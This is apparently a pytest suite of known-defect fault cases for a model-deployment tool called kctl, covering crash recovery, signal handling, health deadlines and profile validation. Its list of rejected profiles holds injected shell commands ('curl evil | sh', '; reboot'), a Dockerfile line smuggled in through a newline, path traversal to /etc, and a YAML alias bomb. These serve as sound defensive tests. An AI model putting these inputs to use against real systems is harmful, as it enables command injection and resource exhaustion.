"""Fault cases that expect the behaviour issue 33 asks for, which current kctl does not
have yet. ``conftest.py`` keeps this file out of collection (``collect_ignore``) until the
fixes are merged; naming the file runs it all the same:
``python -m pytest tests/faults/test_known_defects.py``.

From issue 33's list:

1. ``status-names-server-after-kill``, ``status-names-foreign-server``: after ``kill -9`` of
   kctl during the gate, ``status`` names the candidate serving on the port (in ``serving``
   or ``unmanaged``), not only the open transaction; a server kctl does not own on the
   profile's port is listed in ``unmanaged``.
2. ``one-signal-during-revert[...]``: one SIGTERM or SIGINT during the automatic revert of
   a rejected candidate does not abort it: exit 3, the baseline serving, verified and
   tracked. ``second-signal-during-revert[...]``: the first lets the revert go on, the
   second aborts it (exit 4). ``rollback-keeps-the-aborted-record``: a later rollback
   keeps the aborted deploy's status and reason.
3. ``crashed-candidate-verdict-names-the-exit``: a candidate killed during the gate is
   reported as exited (exit code or signal), not as wrong answers or refused connections.
4. ``never-ready-is-rejected-in-seconds``: with the default 900 s health deadline, a
   simulated never-ready candidate is rejected in under 30 s of wall time.
5. ``http-500-fails-fast``: a candidate answering HTTP 500 fails health after a bounded
   number of errors (here well inside a 300 s deadline), the response body in the reason.
6. ``empty-store-is-refused``: a 0-byte ``kctl.db`` is refused like a corrupt one.
7. ``alias-bomb-refused-fast``, ``huge-profile-refused``: the alias bomb is refused in under
   1 s (3 s with the interpreter's start) and 200 MB; a 50 MB profile is refused.
8. ``reason-names-the-exception``, ``declined-kernel-not-phase-port``,
   ``rollback-does-not-create-a-mistyped-state-dir``.

Found by this suite (not in the issue's list):

F1. ``killed-before-first-step-is-closed``: a deploy killed after writing its record but
    before its first journal step stays "planned" forever; the next command should close
    it (as it closes an interrupted transaction).
F2. ``kill-inside-revert-start``: a kill that lands inside the revert's start of the
    baseline, after the process is spawned but before it is recorded, leaves an orphan
    that ``rollback`` adopts ("already serves and is healthy") without recording its
    process: ``status`` then says the serving process is down (exit 4) while it serves.
    Timing-dependent on current kctl (it fails when the kill lands in that window).
F3. ``signal-while-replacing-the-baseline[...]``: one SIGTERM/SIGINT while kctl stops the
    baseline to start the candidate ends DEGRADED (the revert waits for the health of the
    baseline it has just told to exit) instead of restarting it (exit 3).
F4. ``rollback-after-baseline-fatal-line[...]``: once the baseline's start logged a fatal
    line, every later start of that deployment fails health on the old line (the local
    runtime appends each start to the same log and health scans it from the top), so
    ``rollback`` stays DEGRADED after the cause is gone.
F5. ``accepted-bad-profile[...]``: profiles kctl accepts but must refuse with exit 2 and
    the field: shell metacharacters in ``server.host`` and ``server.served_model_name``, a newline
    in ``image.base`` (a second Dockerfile instruction), flags SGLang reads as a typed
    field (``--mem-fraction`` abbreviates ``--mem-fraction-static``,
    ``--tensor-parallel-size`` is ``--tp-size``), ``image.kernel_source`` outside the
    repository, an infinite health deadline, a 10**23-token gate.
F6. ``sigint-during-bench``: a SIGINT during ``bench`` is sometimes swallowed: the
    benchmark runs to its end, stores its measurement and exits 0. Expected: exit 130, as
    for any interruption before a change, and nothing stored. Timing-dependent.
"""

from __future__ import annotations

import http.server
import os
import resource
import signal
import subprocess
import threading
import time
from collections.abc import Iterator

import pytest

from tests.faults.harness import BASE_NAME, Case, cand_profile
from tests.faults.test_kill import FIRST_DEPLOY, REJECTED_DEPLOY, Step, act_at

pytestmark = [pytest.mark.slow]
TERM, INT = signal.SIGTERM, signal.SIGINT
REVERT_STEPS = [s for s in REJECTED_DEPLOY if s[0].startswith("revert")]


def known(defect: str) -> pytest.MarkDecorator:
    return pytest.mark.known_defect(defect)


# -- 1. status after a crash ----------------------------------------------------------------


@known("1")
def test_status_names_server_after_kill(slow_case: Case) -> None:
    case = slow_case
    gate = next(s for s in FIRST_DEPLOY if s[0] == "gate")
    run = act_at(case, ("deploy", case.cand), gate[1], gate[2], gate[3])
    assert run.code == -signal.SIGKILL
    code, st = case.status()
    assert code == 4 and st["interrupted"], st
    cand_id = st["interrupted"][0]["id"]
    assert case.serving() == "faults-cand"
    named = (st["serving"] or {}).get("id") == cand_id or any(
        cand_id in str(u) or str(case.port) in str(u) for u in st["unmanaged"]
    )
    assert named, f"status does not name {cand_id} serving on port {case.port}: {st}"


@pytest.fixture
def foreign_server(case: Case) -> Iterator[int]:
    server = http.server.HTTPServer(("127.0.0.1", case.port), http.server.BaseHTTPRequestHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield case.port
    finally:
        server.shutdown()
        server.server_close()


@known("1")
def test_status_names_foreign_server(case: Case, foreign_server: int) -> None:
    r = case.run("deploy", case.base)
    assert r.code == 5 and "which kctl does not own" in r.err, str(r)
    code, st = case.status()
    assert any(str(foreign_server) in str(u) for u in st["unmanaged"]), st


# -- 2. signals during the automatic revert -------------------------------------------------


def _revert_ids(steps: list[Step], sigs: list[tuple[int, ...]]) -> list[str]:
    return [f"{s[0]}-{'+'.join(signal.Signals(g).name for g in gs)}" for s in steps for gs in sigs]


ONE_SIG = [(TERM,), (INT,)]


@known("2")
@pytest.mark.parametrize(
    ("step", "sigs"),
    [(s, g) for s in REVERT_STEPS for g in ONE_SIG],
    ids=_revert_ids(REVERT_STEPS, ONE_SIG),
)
def test_one_signal_during_revert(slow_case: Case, step: Step, sigs: tuple[int, ...]) -> None:
    case = slow_case
    case.establish()
    before = case.history()
    slow = case.candidate("slow.yaml", KCTL_SIM_SLOWDOWN="4")
    _, pattern, nth, journal = step
    run = act_at(case, ("deploy", slow), pattern, nth, journal, signals=sigs)
    assert run.code == 3, str(run)
    assert "restored and verified" in run.err, str(run)
    case.assert_serves(BASE_NAME)
    case.check_store(before)


@known("2")
@pytest.mark.parametrize("step", REVERT_STEPS, ids=[s[0] for s in REVERT_STEPS])
def test_second_signal_during_revert(slow_case: Case, step: Step) -> None:
    case = slow_case
    case.establish()
    before = case.history()
    slow = case.candidate("slow.yaml", KCTL_SIM_SLOWDOWN="4")
    _, pattern, nth, journal = step
    run = act_at(
        case, ("deploy", slow), pattern, nth, journal, signals=(TERM, TERM), then=("start", 2)
    )
    assert run.code == 4 and "DEGRADED" in run.err, str(run)
    r = case.run("rollback")
    assert r.code == 0, str(r)
    case.assert_serves(BASE_NAME)
    case.check_store(before)


@known("2")
def test_rollback_keeps_the_aborted_record(slow_case: Case) -> None:
    """Two signals abort a revert (exit 4); the rollback after it adds its own record and
    leaves the aborted one's status and reason as they were."""
    case = slow_case
    gate = next(s for s in FIRST_DEPLOY if s[0] == "gate")
    run = act_at(
        case,
        ("deploy", case.cand),
        gate[1],
        gate[2],
        gate[3],
        signals=(TERM, TERM),
        then=("start", 3, "done"),
    )
    assert run.code == 4, str(run)
    aborted = case.history()
    assert case.run("rollback").code == 0
    case.check_store(aborted)


@known("F3")
@pytest.mark.parametrize("sig", [TERM, INT], ids=["SIGTERM", "SIGINT"])
def test_signal_while_replacing_the_baseline(slow_case: Case, sig: int) -> None:
    case = slow_case
    stop = next(s for s in FIRST_DEPLOY if s[0] == "baseline-stop")
    run = act_at(case, ("deploy", case.cand), stop[1], stop[2], stop[3], signals=(sig,))
    assert run.code == 3, str(run)
    assert "restored and verified" in run.err, str(run)
    case.assert_serves(BASE_NAME)


# -- 3, 4, 5: candidates --------------------------------------------------------------------


@known("3")
def test_crashed_candidate_verdict_names_the_exit(slow_case: Case) -> None:
    case = slow_case
    case.establish()
    base_pids = set(case.servers())
    old = {row[0] for row in case.journal()}
    proc = case.spawn("deploy", case.cand)
    case.wait_journal("gate", 1, old)
    (pid,) = [p for p in case.servers() if p not in base_pids]
    os.kill(pid, signal.SIGKILL)
    r = proc.finish()
    assert r.code == 3, str(r)
    assert "probes differ" not in r.text and "ConnectionRefused" not in r.text, str(r)
    assert "signal 9" in r.text or "SIGKILL" in r.text, str(r)
    case.assert_serves(BASE_NAME)


@known("4")
def test_never_ready_is_rejected_in_seconds(case: Case) -> None:
    case.establish()
    p = cand_profile(case.port, KCTL_SIM_FAULT="never_ready")
    p["health"]["deadline_s"] = 900
    t0 = time.monotonic()
    r = case.run("deploy", case.write("never.yaml", p), timeout=120)
    assert r.code == 3, str(r)
    assert time.monotonic() - t0 < 30
    case.assert_serves(BASE_NAME)


@known("5")
def test_http_500_fails_fast(case: Case) -> None:
    case.establish()
    p = cand_profile(case.port, KCTL_SIM_FAULT="generate_error")
    p["health"]["deadline_s"] = 300
    t0 = time.monotonic()
    r = case.run("deploy", case.write("e500.yaml", p), timeout=120)
    assert r.code == 3, str(r)
    assert time.monotonic() - t0 < 30
    assert "simulated generation failure" in r.err, str(r)
    case.assert_serves(BASE_NAME)


# -- 6. the empty store ---------------------------------------------------------------------


@known("6")
def test_empty_store_is_refused(case: Case) -> None:
    case.establish()
    case.db.write_bytes(b"")
    for args in (("deploy", case.cand), ("rollback",), ("status",)):
        r = case.run(*args)
        assert r.code == 5 and str(case.db) in r.err, f"{args}: {r}"
    assert case.db.stat().st_size == 0
    assert case.serving() == BASE_NAME


# -- 7. profiles that cost too much ---------------------------------------------------------

# 9**7 (4.8 million) nested mappings from under 600 bytes: each level is a mapping whose
# nine values are all the level below
BOMB = (
    "extends: cand.yaml\n"
    + "".join(
        f"x-{lvl}: &{lvl} {{"
        + ", ".join(f"{k}: {'*' + prev if prev else 1}" for k in "abcdefghi")
        + "}\n"
        for prev, lvl in zip(["", *"abcdef"], "abcdefg")
    )
    + "description: *g\n"
)


def _measured(case: Case, *args: str, timeout: float = 10) -> tuple[int, str, float, float]:
    """(exit code, stderr, seconds, peak RSS in MB) of one kctl run."""
    t0 = time.monotonic()
    proc = subprocess.Popen(
        case.argv(*args), stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, cwd=case.tmp,
        env=case.env, text=True,
    )  # fmt: skip
    try:
        _, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()
        raise AssertionError(f"kctl {args} took more than {timeout} s") from None
    rss_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    return proc.returncode, err, time.monotonic() - t0, rss_mb


@known("7")
def test_alias_bomb_refused_fast(case: Case) -> None:
    path = case.write("bomb.yaml", BOMB)
    code, err, seconds, rss = _measured(case, "deploy", path)
    assert code == 2 and "bomb.yaml" in err, err
    assert seconds < 3 and rss < 200, (seconds, rss)


@known("7")
def test_huge_profile_refused(case: Case) -> None:
    path = case.write("huge.yaml", "extends: cand.yaml\ndescription: '" + "x" * 50_000_000 + "'\n")
    code, err, _, _ = _measured(case, "deploy", path, timeout=60)
    assert code == 2 and "huge.yaml" in err, err
    assert case.serving() is None


# -- 8. misleading reasons ------------------------------------------------------------------


@known("8")
def test_reason_names_the_exception(case: Case) -> None:
    case.establish()
    r = case.run("deploy", case.candidate("crash.yaml", KCTL_SIM_FAULT="crash_while_loading"))
    assert r.code == 3, str(r)
    error = next(line for line in r.err.splitlines() if line.startswith("kctl: error:"))
    assert "RuntimeError: simulated crash while loading weights" in error, error


@known("8")
def test_declined_kernel_not_phase_port(case: Case) -> None:
    case.establish()
    r = case.run("deploy", case.candidate("declined.yaml", KCTL_SIM_FAULT="kernel_declined"))
    assert r.code == 3, str(r)
    assert "phase port" not in r.err, str(r)


@known("8")
def test_rollback_does_not_create_a_mistyped_state_dir(case: Case) -> None:
    typo = case.tmp / "sttae"
    r = subprocess.run(
        [*case.argv("rollback")[:3], "--state-dir", str(typo), "--simulate", "rollback"],
        capture_output=True, text=True, cwd=case.tmp, env=case.env, timeout=60,
    )  # fmt: skip
    assert r.returncode != 0
    assert not typo.exists(), "rollback created the mistyped state dir"


# -- found by this suite --------------------------------------------------------------------


@known("F1")
def test_killed_before_first_step_is_closed(slow_case: Case) -> None:
    case = slow_case
    rec = FIRST_DEPLOY[0]
    act_at(case, ("deploy", case.cand), rec[1], rec[2], rec[3])
    (killed,) = case.history()
    assert case.run("deploy", case.cand).code == 0
    row = next(r for r in case.history() if r["id"] == killed["id"])
    assert row["ended_at"] is not None and row["status"] != "planned", row


@known("F2")
def test_kill_inside_revert_start(slow_case: Case) -> None:
    case = slow_case
    case.establish()
    slow = case.candidate("slow.yaml", KCTL_SIM_SLOWDOWN="4")
    step = next(s for s in REVERT_STEPS if s[0] == "revert-start")
    act_at(case, ("deploy", slow), step[1], step[2], ("start", 2))
    assert case.run("rollback").code == 0
    case.assert_serves(BASE_NAME)


@known("F4")
@pytest.mark.parametrize("fault", ["crash_while_loading", "fatal_log"])
def test_rollback_after_baseline_fatal_line(case: Case, fault: str) -> None:
    case.establish()
    wrong = case.candidate("wrong.yaml", KCTL_SIM_FAULT="wrong_output")
    r = case.run("deploy", wrong, env={"KCTL_SIM_FAULT": fault})
    assert r.code == 4, str(r)
    r = case.run("rollback")
    assert r.code == 0, str(r)
    case.assert_serves(BASE_NAME)


ACCEPTED: list[tuple[str, str, str]] = [
    ("host-metachar", "server:\n  host: '127.0.0.1; curl evil | sh'\n", "server.host"),
    (
        "served-name-metachar",
        "server:\n  served_model_name: 'x; reboot'\n",
        "server.served_model_name",
    ),
    ("image-base-newline", 'image:\n  base: "ubuntu\\nRUN curl evil | sh"\n', "image.base"),
    (
        "abbreviated-flag",
        "server:\n  extra_args: ['--mem-fraction', '0.5']\n",
        "server.extra_args[0]",
    ),
    (
        "aliased-flag",
        "server:\n  extra_args: ['--tensor-parallel-size', '8']\n",
        "server.extra_args[0]",
    ),
    ("kernel-source-up", "image:\n  kernel_source: ../../../etc\n", "image.kernel_source"),
    ("kernel-source-absolute", "image:\n  kernel_source: /etc\n", "image.kernel_source"),
    ("infinite-deadline", "health:\n  deadline_s: .inf\n", "health.deadline_s"),
    (
        "huge-output-tokens",
        "gate:\n  output_tokens: 100000000000000000000000\n",
        "gate.output_tokens",
    ),
]


@known("F5")
@pytest.mark.parametrize(("text", "field"), [a[1:] for a in ACCEPTED], ids=[a[0] for a in ACCEPTED])
def test_accepted_bad_profile(case: Case, text: str, field: str) -> None:
    path = case.write("bad.yaml", "extends: cand.yaml\n" + text)
    r = case.run("deploy", path)
    assert r.code == 2, str(r)
    assert f"bad.yaml: {field}" in r.err, str(r)
    assert case.serving() is None


@known("F6")
def test_sigint_during_bench(slow_case: Case) -> None:
    case = slow_case
    case.promote()
    before = case.history()
    for _ in range(3):  # the swallowed SIGINT does not happen every time
        run = act_at(case, ("bench",), r"kctl: bench: ", 1, None, signals=(INT,))
        assert run.code == 130, str(run)
    case.check_store(before)
    case.assert_serves("faults-cand")
